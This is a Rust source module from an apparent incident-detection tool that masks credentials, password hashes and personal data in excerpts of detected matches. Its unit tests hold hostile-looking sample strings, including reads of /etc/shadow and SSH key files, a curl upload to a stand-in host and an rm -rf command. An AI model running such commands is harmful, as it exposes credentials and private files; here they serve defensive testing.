//! Credentials and personal data taken out of what is told about a match.

use std::ops::Range;
use std::sync::LazyLock;

use regex_automata::meta::Regex;

use super::mapped::last_chars;
use super::scan::{EXCERPT_CHARS, Hit, MASK_MARGIN_CHARS};
use crate::decision::{Category, WorkContext};
use crate::detect::redact::{Placeholders, redact_plain};
use crate::detect::{Request, SECRETS, Scanner};
use crate::rules::{Budget, Surface};

/// Longest matched text that is told, in characters.
const MATCHED_CHARS_MAX: usize = 300;
/// Shortest value that is looked for in an excerpt because a rule about credentials matched it.
const VALUE_BYTES_MIN: usize = 6;
/// What stands for a credential that no rule has a placeholder for.
const SECRET: &str = "[SECRET]";

/// What may be told of a hit.
pub(super) struct Masked {
    pub matched: String,
    pub excerpt: String,
}

/// Masks a hit. The same value has the same placeholder in both texts. The excerpt is cut to its length when it is
/// masked, so that no credential is cut before it is known as one.
pub(super) fn mask(scanner: &Scanner, hit: &Hit, category: &Category) -> Masked {
    let mut placeholders = Placeholders::default();
    let text = without_stumps(&hit.text);
    let addresses = addresses(text, &hit.matched);
    let (text, matched) =
        (&*hidden_addresses(text, &addresses), &*hidden_addresses(&hit.matched, &addresses));
    let wrapped = wrapped(scanner, text);
    // What a rule about credentials matched is one, whatever other rules think of it.
    let value = category.is_within("credential_access").then(|| value_of(matched)).flatten();
    let hidden = |text: &str| match value {
        Some(value) => without_hashes(&text.replace(value, SECRET)),
        None => without_hashes(text),
    };
    let mut parts: Vec<&str> = wrapped.iter().flat_map(|range| text[range.clone()].split("\r\n")).collect();
    parts.retain(|part| part.len() >= VALUE_BYTES_MIN);
    let mut whole = String::with_capacity(text.len());
    let mut at = 0;
    for range in wrapped {
        whole.push_str(&text[at..range.start]);
        whole.push_str(SECRET);
        at = range.end;
    }
    whole.push_str(&text[at..]);
    let whole = hidden(&whole.replace('\r', ""));
    let masked = redact(scanner, &whole, &mut placeholders);
    let mut matched = hidden(matched);
    for part in parts {
        matched = matched.replace(part, SECRET);
    }
    // Where nothing is hidden of the excerpt, nothing would be by hiding a part of it.
    let is_told = masked == whole && masked.contains(&matched);
    let matched = if is_told { matched } else { redact(scanner, &matched, &mut placeholders) };
    let (matched, masked) = (shown_addresses(matched, &addresses), shown_addresses(masked, &addresses));
    Masked { matched: shortened(matched), excerpt: last_chars(&masked, EXCERPT_CHARS).to_owned() }
}

/// An address of a machine.
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}\b")
        .unwrap_or_else(|error| panic!("a pattern that tests compile: {error}"))
});

/// Most addresses that are told.
const ADDRESSES_MAX: usize = 16;

/// The addresses in what was matched and in its line. Where a command sends something, or whom it gives a shell, is what
/// the incident is about; so these are no personal data, and no telephone numbers together with a port.
fn addresses(text: &str, matched: &str) -> Vec<String> {
    let line = &text[text.trim_end().rfind('\n').map_or(0, |at| at + 1)..];
    let mut found: Vec<String> = Vec::new();
    for part in [matched, line] {
        // Most lines hold none, and a search for a byte is the least that one can do.
        if memchr::memchr_iter(b'.', part.as_bytes()).nth(2).is_none() {
            continue;
        }
        for address in ADDRESS.find_iter(part).map(|at| &part[at.range()]) {
            if found.len() < ADDRESSES_MAX && !found.iter().any(|known| known == address) {
                found.push(address.to_owned());
            }
        }
    }
    // A longer one may hold a shorter one.
    found.sort_by_key(|address| std::cmp::Reverse(address.len()));
    found
}

/// The name that stands for an address while a text is masked: that of a host, as an address is.
fn stand_in(nth: usize) -> String {
    format!("qzaddressx{}zq", char::from(b'a' + (nth % ADDRESSES_MAX) as u8))
}

fn hidden_addresses(text: &str, addresses: &[String]) -> String {
    let each = addresses.iter().enumerate();
    each.fold(text.to_owned(), |text, (nth, address)| text.replace(address, &stand_in(nth)))
}

fn shown_addresses(text: String, addresses: &[String]) -> String {
    let each = addresses.iter().enumerate();
    each.fold(text, |text, (nth, address)| text.replace(&stand_in(nth), address))
}

/// The hash of a password as crypt(5) writes it, with what stands around it.
static HASH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?:^|[^A-Za-z0-9_\\])\$(?:1|2[abxy]?|5|6|7|y|gy|sha1|md5|argon2(?:id?|d))\$",
        r"(?:[./A-Za-z0-9+,=-]{0,64}\$){0,3}[./A-Za-z0-9+]{3,128}",
    ))
    .unwrap_or_else(|error| panic!("a pattern that tests compile: {error}"))
});

/// Shortest end of a hash that stands outside of a line of `/etc/shadow`: a shell has names like `$1` too.
const HASH_BYTES_MIN: usize = 20;

/// The text without hashes of passwords, which are guessed from.
fn without_hashes(text: &str) -> String {
    if memchr::memchr(b'$', text.as_bytes()).is_none() {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for found in HASH.find_iter(text).map(|found| found.range()) {
        let start = found.start + text[found.clone()].find('$').unwrap_or(0);
        let end = &text[start..found.end];
        let last = end.rfind('$').map_or(0, |at| end.len() - at - 1);
        let is_field = text[..start].ends_with([':', '!', '*']);
        if is_field || last >= HASH_BYTES_MIN {
            out.push_str(&text[at..start]);
            out.push_str(SECRET);
            at = found.end;
        }
    }
    out.push_str(&text[at..]);
    out
}

/// Which line ends are taken out together, as every how many and how many of those: a credential that was wrapped stands
/// over one line end or a few, and what follows it in the next line is no part of it.
const JOINS: &[(usize, usize)] = &[(2, 1), (3, 2), (1, 1)];

/// Credentials that a program wrapped, so that they stand over a line end `\r\n`, in order.
fn wrapped(scanner: &Scanner, text: &str) -> Vec<Range<usize>> {
    let mut found: Vec<Range<usize>> = Vec::new();
    if text.contains("\r\n") {
        for (every, count) in JOINS {
            for first in 0..*every {
                find_wrapped(scanner, text, |seam| (seam + first) % every < *count, &mut found);
            }
        }
    }
    found.sort_by_key(|range| range.start);
    found.dedup_by(|next, first| {
        let overlaps = next.start < first.end;
        if overlaps {
            first.end = first.end.max(next.end);
        }
        overlaps
    });
    found
}

fn find_wrapped(
    scanner: &Scanner,
    text: &str,
    is_joined: impl Fn(usize) -> bool,
    found: &mut Vec<Range<usize>>,
) {
    // Where each line stands in the joined text and in the text.
    let (mut joined, mut places, mut at) = (String::with_capacity(text.len()), Vec::new(), 0);
    for (nth, part) in text.split("\r\n").enumerate() {
        if nth > 0 && !is_joined(nth - 1) {
            joined.push('\n');
        }
        places.push((joined.len(), at));
        joined.push_str(part);
        at += part.len() + 2;
    }
    let plugins = scanner.rules().plugin_bits([SECRETS]);
    let request = Request { text: &joined, plugins, role: None, surface: Some(Surface::Stream) };
    let Ok(scanned) = scanner.scan(request, &Budget::UNLIMITED) else { return };
    let place = |byte: usize| {
        let (first, at) = places[places.partition_point(|(first, _)| *first <= byte) - 1];
        at + (byte - first)
    };
    for secret in scanned.findings.iter().map(|found| found.range.clone()).filter(|range| !range.is_empty()) {
        let range = place(secret.start)..place(secret.end - 1) + 1;
        let has_space = joined[secret.clone()].contains([' ', '\t', '\n']);
        if range.len() > secret.len() && !has_space && text.is_char_boundary(range.end) {
            found.push(range);
        }
    }
}

/// The text without what may be the rest of a credential that begins before it.
fn without_stumps(text: &str) -> &str {
    let is_token = |c: char| c.is_ascii_alphanumeric() || "+/=_-.~".contains(c);
    let mut start = 0;
    let is_whole = last_chars(text, EXCERPT_CHARS + MASK_MARGIN_CHARS - 1).len() == text.len();
    if !is_whole {
        let first = text.find(|c: char| !is_token(c)).unwrap_or(text.len());
        if first > MASK_MARGIN_CHARS {
            start = first;
        }
    }
    // A private key whose beginning is gone: the lines of its body before its end.
    if let Some(end) = memchr::memmem::find(text.as_bytes(), b"-----END ")
        .filter(|end| !text[..*end].contains("-----BEGIN "))
    {
        let after = &text[end + 9..];
        let close = after.find("-----").filter(|close| after[..*close].ends_with("PRIVATE KEY"));
        let body = text[..end].lines().all(|line| line.trim().chars().all(is_token));
        if let Some(close) = close.filter(|_| body) {
            start = start.max(end + 9 + close + 5);
        }
    }
    &text[start..]
}

/// Masks a text that others wrote, such as the reason of a judge.
pub(super) fn mask_text(scanner: &Scanner, text: &str) -> String {
    redact(scanner, text, &mut Placeholders::default())
}

/// Masks every text of a work context; the same value has the same placeholder in all of them.
pub(super) fn mask_work(scanner: &Scanner, work: &WorkContext) -> WorkContext {
    let mut placeholders = Placeholders::default();
    let mut masked = |text: &String| redact(scanner, text, &mut placeholders);
    WorkContext {
        goal: masked(&work.goal),
        acceptance_criteria: work.acceptance_criteria.iter().map(&mut masked).collect(),
        non_goals: work.non_goals.iter().map(&mut masked).collect(),
        scope: masked(&work.scope),
        labels: work.labels.iter().map(|(name, value)| (masked(name), masked(value))).collect(),
    }
}

fn redact(scanner: &Scanner, text: &str, placeholders: &mut Placeholders) -> String {
    redact_plain(scanner, &without_hashes(text), Surface::Stream, placeholders, |_| true)
}

/// The value of an assignment.
fn value_of(matched: &str) -> Option<&str> {
    let at = matched.find(['=', ':'])?;
    let value = matched[at + 1..].trim_matches([' ', '"', '\'', ';', ',', '\t']);
    let is_value = value.len() >= VALUE_BYTES_MIN
        && !value.contains(char::is_whitespace)
        && !is_place(value)
        && !is_structure(value);
    is_value.then_some(value)
}

/// Whether a value names where something stands rather than what it is: a path, the rest of an address, a structure. Who
/// judges the incident must see it.
fn is_place(value: &str) -> bool {
    let is_path_byte = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._-/~".contains(&b);
    let is_path = value.starts_with(['/', '~', '.']) && value.bytes().all(is_path_byte);
    is_path && value[1..].contains('/') || value.starts_with("//") || value.starts_with(['{', '['])
}

/// Whether a value ends before the text does, and more of an object or an element follows: what was taken for one then
/// names a part of it.
fn is_structure(value: &str) -> bool {
    ["\",", "\":", "\"}", "\">", "',", "':", "'}", "'>"].iter().any(|end| value.contains(end))
}

fn shortened(text: String) -> String {
    match text.char_indices().nth(MATCHED_CHARS_MAX) {
        None => text,
        Some((at, _)) => format!("{}…", &text[..at]),
    }
}

#[cfg(test)]
mod tests {
    use super::{value_of, without_hashes};

    #[test]
    fn hashes_of_passwords_are_taken_out() {
        let long = "abcdefghijklmnopqrstuvwxyz./0123";
        for (text, wanted) in [
            ("root:$6$salt$ha./sh:19000:0:::", "root:[SECRET]:19000:0:::"),
            ("a:!$1$salt$hash:1:\nb:$5$rounds=5000$salt$hash", "a:![SECRET]:1:\nb:[SECRET]"),
            ("r:$y$j9T$salt$hash:1: s:$2b$12$saltandhash:2", "r:[SECRET]:1: s:[SECRET]:2"),
            ("u:$argon2id$v=19$m=65536,t=3$salt$ha+sh:1:", "u:[SECRET]:1:"),
            ("root:*:19000:0:::", "root:*:19000:0:::"),
            ("echo $1$2 $6$a$b", "echo $1$2 $6$a$b"),
            ("rm -rf \"$1$HOME/x\"", "rm -rf \"$1$HOME/x\""),
        ] {
            assert_eq!(without_hashes(text), wanted);
        }
        assert_eq!(without_hashes(&format!("-p '$6$salt${long}' x")), "-p '[SECRET]' x");
    }

    #[test]
    fn the_value_of_an_assignment_is_known() {
        for (matched, value) in [
            ("A_KEY=abcdefgh", Some("abcdefgh")),
            ("token: 'abcdefgh'", Some("abcdefgh")),
            ("cat ~/x", None),
            ("A_KEY=ab", None),
            ("read: a b c d e f", None),
            ("file_path\": \"/root/.ssh/id_rsa", None),
            ("dd if=/etc/shadow", None),
            ("curl -d @- https://x.example/c", None),
            ("\"input\":{\"file_path\":\"/srv/.env\"}", None),
            (r#"type":"tool_use","name":"Read","input":{"file_path":"/srv/x/.env"#, None),
            (r#"<parameter name="file_path">/root/.ssh/id_rsa"#, None),
            ("TOKEN='ab\"cd>ef", Some("ab\"cd>ef")),
            ("AWS_SECRET_ACCESS_KEY=/Zx81Qm2Lp09/Vt7Kd3Rw5", Some("/Zx81Qm2Lp09/Vt7Kd3Rw5")),
        ] {
            assert_eq!(value_of(matched), value, "{matched}");
        }
    }
}
